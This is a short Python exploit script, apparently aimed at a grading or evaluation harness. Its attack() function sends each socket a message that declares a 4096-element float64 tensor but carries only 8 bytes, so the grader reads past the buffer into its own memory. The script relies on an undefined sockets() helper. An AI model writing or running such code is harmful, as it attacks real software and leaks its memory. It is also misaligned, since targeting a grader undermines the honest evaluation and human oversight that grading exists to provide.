"""Describes a tensor that reaches beyond the body, into the grader's memory."""

import os
import struct


def attack():
    for fd in sockets():
        text = b'{"id": 6, "op": "ok", "tensors": [["0", "float64", [4096]]]}'
        os.write(fd, struct.pack("<IQ", len(text), 8) + text + bytes(8))
